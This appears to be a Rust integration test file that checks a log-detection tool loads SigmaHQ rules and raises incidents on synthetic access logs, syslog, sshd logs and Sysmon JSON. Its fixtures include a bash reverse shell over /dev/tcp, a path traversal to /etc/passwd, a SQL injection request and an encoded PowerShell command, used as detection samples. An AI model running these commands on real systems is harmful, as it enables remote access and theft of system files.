//! Sigma rules through the real `socwatch`: the load report over SigmaHQ's published rules, web
//! rules on access logs, Linux keyword rules on syslog, correlations over sshd failures, and
//! Windows rules on JSON lines given their logsource.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use crate::support::{corpus_dir, fixture, incidents, socwatch, stderr, stdout};

fn sigma_corpus() -> PathBuf {
    corpus_dir().join("sigma")
}

fn yaml_files(dir: &Path, out: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display())) {
        let path = entry.unwrap().path();
        if path.is_dir() {
            yaml_files(&path, out);
        } else if path.extension().is_some_and(|e| e == "yml" || e == "yaml") {
            out.push(path);
        }
    }
}

/// A top-level attribute of a Sigma rule file, read as the test's own expectation.
fn attribute(file: &Path, key: &str) -> String {
    let text = std::fs::read_to_string(file).unwrap();
    text.lines()
        .find_map(|l| l.strip_prefix(&format!("{key}: ")))
        .unwrap_or_else(|| panic!("{key} in {}", file.display()))
        .trim()
        .to_string()
}

fn write(dir: &Path, name: &str, lines: &[String]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, lines.join("\n") + "\n").unwrap();
    path
}

#[test]
fn every_sigma_rule_of_the_corpus_loads_and_is_reported() {
    let corpus = sigma_corpus();
    let mut files = Vec::new();
    yaml_files(&corpus, &mut files);
    assert!(files.len() > 300, "the corpus was found: {}", files.len());
    let documents: usize = files
        .iter()
        .map(|f| {
            std::fs::read_to_string(f)
                .unwrap()
                .lines()
                .filter(|l| l.starts_with("title:"))
                .count()
        })
        .sum();
    let out = socwatch(&[
        "--lang",
        "en",
        "rules",
        "check",
        "--rules",
        corpus.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = stdout(&out);
    let statuses: Vec<&str> = text
        .lines()
        .filter_map(|l| l.split_whitespace().next())
        .filter(|s| ["loaded", "idle", "unsupported"].contains(s))
        .collect();
    assert_eq!(statuses.len(), documents, "one line per rule:\n{text}");
    let count = |s: &str| statuses.iter().filter(|x| **x == s).count();
    assert_eq!(count("unsupported"), 0, "no rule is unsupported:\n{text}");
    assert!(count("loaded") > 100 && count("idle") > 100, "{text}");
    for line in text.lines().filter(|l| l.starts_with("idle")) {
        assert!(
            line.contains("': ") && line.len() > 60,
            "an idle rule says why: {line}"
        );
    }
    // What the decoders feed is loaded, not idle.
    for rule in [
        "rules/web/webserver_generic/web_sql_injection_in_access_logs.yml",
        "rules/linux/builtin/sshd/lnx_sshd_susp_ssh.yml",
        "rules/linux/builtin/lnx_shell_susp_rev_shells.yml",
    ] {
        let file = corpus.join(rule);
        if file.exists() {
            let shown = file.display().to_string();
            assert!(
                text.lines()
                    .any(|l| l.starts_with("loaded") && l.contains(&shown)),
                "{rule} loaded:\n{text}"
            );
        }
    }
    assert!(
        text.contains(&format!(
            "{documents} rules: {} loaded, {} idle, 0 unsupported",
            count("loaded"),
            count("idle")
        )),
        "{text}"
    );
}

#[test]
fn sigma_web_rules_fire_on_access_log_lines() {
    let web = sigma_corpus().join("rules/web");
    let sqli = web.join("webserver_generic/web_sql_injection_in_access_logs.yml");
    let traversal = web.join("webserver_generic/web_path_traversal_exploitation_attempt.yml");
    let dir = tempfile::tempdir().unwrap();
    let line = |ip: &str, request: &str, agent: &str| {
        format!(r#"{ip} - - [22/Nov/2026:10:01:02 +0700] "{request}" 200 512 "-" "{agent}""#)
    };
    let benign = line(
        "198.51.100.20",
        "GET /tin-tuc/thong-bao HTTP/1.1",
        "Mozilla/5.0",
    );
    let log = write(
        dir.path(),
        "access.log",
        &[
            line(
                "203.0.113.7",
                "GET /products?id=1%20order%20by%203-- HTTP/1.1",
                "Mozilla/5.0",
            ),
            benign.clone(),
            line(
                "203.0.113.8",
                "GET /download?file=../../../etc/passwd HTTP/1.1",
                "curl/8.0",
            ),
            // SQL text in a POST is not what the SQLi rule describes (it selects GET).
            line(
                "198.51.100.21",
                "POST /search?q=x%20order%20by%20name HTTP/1.1",
                "Mozilla/5.0",
            ),
        ],
    );
    let out = socwatch(&[
        "scan",
        "--rules",
        web.to_str().unwrap(),
        "--json",
        log.to_str().unwrap(),
    ]);
    let found = incidents(&out);
    let by_rule = |file: &Path| -> Vec<&serde_json::Value> {
        let id = attribute(file, "id");
        found
            .iter()
            .filter(|i| i["rule_id"] == id.as_str())
            .collect()
    };
    let sqli_found = by_rule(&sqli);
    assert_eq!(sqli_found.len(), 1, "{found:#?}");
    let incident = sqli_found[0];
    assert_eq!(incident["group"]["c-ip"], "203.0.113.7");
    assert_eq!(incident["title"], attribute(&sqli, "title").as_str());
    assert_eq!(incident["author"], attribute(&sqli, "author").as_str());
    assert_eq!(incident["severity"], attribute(&sqli, "level").as_str());
    assert!(
        incident["tags"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t.as_str().unwrap().starts_with("attack.")),
        "{incident}"
    );
    let traversal_found = by_rule(&traversal);
    assert_eq!(traversal_found.len(), 1, "{found:#?}");
    assert_eq!(traversal_found[0]["group"]["c-ip"], "203.0.113.8");
    for incident in &found {
        for evidence in incident["evidence"].as_array().unwrap() {
            assert_ne!(evidence["line"], benign.as_str(), "{incident}");
            assert!(
                !evidence["line"].as_str().unwrap().contains("POST /search"),
                "{incident}"
            );
        }
    }
}

#[test]
fn sigma_linux_keyword_rules_fire_on_syslog_lines() {
    let linux = sigma_corpus().join("rules/linux/builtin");
    let rev = linux.join("lnx_shell_susp_rev_shells.yml");
    let sshd = linux.join("sshd/lnx_sshd_susp_ssh.yml");
    let dir = tempfile::tempdir().unwrap();
    let log = write(
        dir.path(),
        "syslog",
        &[
            "Nov 22 10:01:02 portal-01 bash[4121]: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1".into(),
            "Nov 22 10:01:03 portal-01 sshd[811]: Corrupted MAC on input. [preauth]".into(),
            "Nov 22 10:01:04 portal-01 sshd[812]: Accepted publickey for deploy from 10.0.0.5 port 51514 ssh2".into(),
            "Nov 22 10:01:05 portal-01 systemd[1]: Started Daily apt download activities.".into(),
        ],
    );
    let out = socwatch(&[
        "scan",
        "--rules",
        linux.to_str().unwrap(),
        "--json",
        log.to_str().unwrap(),
    ]);
    let found = incidents(&out);
    let rules: BTreeSet<&str> = found
        .iter()
        .map(|i| i["rule_id"].as_str().unwrap())
        .collect();
    assert!(rules.contains(attribute(&rev, "id").as_str()), "{found:#?}");
    assert!(
        rules.contains(attribute(&sshd, "id").as_str()),
        "{found:#?}"
    );
    for incident in &found {
        for evidence in incident["evidence"].as_array().unwrap() {
            let line = evidence["line"].as_str().unwrap();
            assert!(
                !line.contains("Accepted publickey") && !line.contains("systemd[1]"),
                "{line} matched {}",
                incident["rule_id"]
            );
        }
    }
}

#[test]
fn sigma_event_count_correlation_opens_one_incident_per_address() {
    let rules = fixture("sigma/correlation/sshd_failures.yml");
    let dir = tempfile::tempdir().unwrap();
    let mut lines = Vec::new();
    let fail = |s: u32, ip: &str| {
        format!(
            "Nov 22 10:{:02}:{:02} portal-01 sshd[811]: Failed password for root from {ip} port 51514 ssh2",
            s / 60,
            s % 60
        )
    };
    // 7 failures from .7 and 5 from .8 within minutes; 4 from .9 (below the threshold); 5 from
    // .10 spread over 40 minutes (never 5 within 10 minutes).
    for i in 0..7 {
        lines.push(fail(i * 20, "203.0.113.7"));
    }
    for i in 0..5 {
        lines.push(fail(200 + i * 30, "203.0.113.8"));
    }
    for i in 0..4 {
        lines.push(fail(400 + i, "203.0.113.9"));
    }
    for i in 0..5 {
        lines.push(fail(600 + i * 600, "203.0.113.10"));
    }
    lines.push(
        "Nov 22 11:30:00 portal-01 sshd[900]: Accepted password for admin from 203.0.113.7 port 5000 ssh2".into(),
    );
    let log = write(dir.path(), "auth.log", &lines);
    let out = socwatch(&[
        "scan",
        "--rules",
        rules.to_str().unwrap(),
        "--json",
        log.to_str().unwrap(),
    ]);
    let found = incidents(&out);
    let correlation_id = attribute(&rules, "id");
    assert!(
        found
            .iter()
            .all(|i| i["rule_id"] == correlation_id.as_str()),
        "the base rule (generate: false) opens no incident of its own: {found:#?}"
    );
    let addresses: Vec<&str> = found
        .iter()
        .map(|i| i["group"]["src_ip"].as_str().unwrap())
        .collect();
    assert_eq!(addresses, vec!["203.0.113.7", "203.0.113.8"], "{found:#?}");
    assert_eq!(found[0]["count"], 7);
    assert_eq!(found[1]["count"], 5);
    assert_eq!(found[0]["author"], attribute(&rules, "author").as_str());
    assert_eq!(found[0]["severity"], "high");
    assert_eq!(found[0]["title"], attribute(&rules, "title").as_str());
}

#[test]
fn sigma_temporal_ordered_correlation_needs_the_order() {
    let rules = fixture("sigma/correlation/sshd_temporal_ordered.yml");
    let dir = tempfile::tempdir().unwrap();
    let log = write(
        dir.path(),
        "auth.log",
        &[
            // .7: failure then success: fires. .8: success then failure: does not.
            // .9: failure then success 10 minutes later: outside the 5 minute span.
            "Nov 22 10:00:00 h sshd[1]: Failed password for root from 203.0.113.7 port 1 ssh2"
                .into(),
            "Nov 22 10:00:05 h sshd[1]: Accepted password for root from 203.0.113.8 port 1 ssh2"
                .into(),
            "Nov 22 10:00:10 h sshd[1]: Failed password for root from 203.0.113.8 port 1 ssh2"
                .into(),
            "Nov 22 10:00:20 h sshd[1]: Failed password for root from 203.0.113.9 port 1 ssh2"
                .into(),
            "Nov 22 10:01:00 h sshd[1]: Accepted password for root from 203.0.113.7 port 1 ssh2"
                .into(),
            "Nov 22 10:10:30 h sshd[1]: Accepted password for root from 203.0.113.9 port 1 ssh2"
                .into(),
        ],
    );
    let out = socwatch(&[
        "scan",
        "--rules",
        rules.to_str().unwrap(),
        "--json",
        log.to_str().unwrap(),
    ]);
    let found = incidents(&out);
    let addresses: Vec<&str> = found
        .iter()
        .map(|i| i["group"]["src_ip"].as_str().unwrap())
        .collect();
    assert_eq!(addresses, vec!["203.0.113.7"], "{found:#?}");
    assert_eq!(found[0]["severity"], "critical");
}

#[test]
fn sigma_windows_rules_match_json_lines_given_their_logsource() {
    let rules = fixture("sigma/windows/proc_creation_win_whoami.yml");
    let dir = tempfile::tempdir().unwrap();
    let log = write(
        dir.path(),
        "sysmon.json",
        &[
            r#"{"EventID":1,"Computer":"ws-01","UtcTime":"2026-11-22T03:01:02Z","Image":"C:\\Windows\\System32\\WHOAMI.EXE","CommandLine":"whoami /all","User":"CORP\\alice"}"#.into(),
            // Same image, but a network connection (Sysmon event 3): not process creation.
            r#"{"EventID":3,"Computer":"ws-01","UtcTime":"2026-11-22T03:01:03Z","Image":"C:\\Windows\\System32\\whoami.exe","User":"CORP\\alice"}"#.into(),
            // Filtered: run as SYSTEM.
            r#"{"EventID":1,"Computer":"ws-02","UtcTime":"2026-11-22T03:01:04Z","Image":"C:\\Windows\\System32\\whoami.exe","User":"NT AUTHORITY\\SYSTEM"}"#.into(),
            r#"{"EventID":1,"Computer":"ws-03","UtcTime":"2026-11-22T03:01:05Z","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell.exe /enc SQBFAFgA","User":"CORP\\bob"}"#.into(),
            r#"{"EventID":1,"Computer":"ws-04","UtcTime":"2026-11-22T03:01:06Z","Image":"C:\\Windows\\notepad.exe","CommandLine":"notepad.exe -enc x","User":"CORP\\carol"}"#.into(),
        ],
    );
    let ids = |out: &std::process::Output| -> Vec<(String, String)> {
        incidents(out)
            .iter()
            .map(|i| {
                (
                    i["rule_id"].as_str().unwrap().to_string(),
                    i["group"]["Computer"].as_str().unwrap_or("").to_string(),
                )
            })
            .collect()
    };
    let whoami = attribute(&rules, "id");
    let text = std::fs::read_to_string(&rules).unwrap();
    let powershell = text
        .split("\n---\n")
        .nth(1)
        .and_then(|doc| doc.lines().find_map(|l| l.strip_prefix("id: ")))
        .unwrap()
        .to_string();
    let want = vec![
        (whoami, "ws-01".to_string()),
        (powershell, "ws-03".to_string()),
    ];
    for logsource in [
        vec!["--logsource", "product=windows,service=sysmon"],
        vec![
            "--logsource",
            "product=windows",
            "--logsource",
            "service=sysmon",
        ],
    ] {
        let mut args = vec!["scan", "--rules", rules.to_str().unwrap(), "--json"];
        args.extend(logsource);
        args.push(log.to_str().unwrap());
        let mut got = ids(&socwatch(&args));
        got.sort();
        let mut want = want.clone();
        want.sort();
        assert_eq!(got, want);
    }
    // Without the logsource, JSON lines are not Windows events.
    let out = socwatch(&[
        "scan",
        "--rules",
        rules.to_str().unwrap(),
        "--json",
        log.to_str().unwrap(),
    ]);
    assert!(ids(&out).is_empty());
}
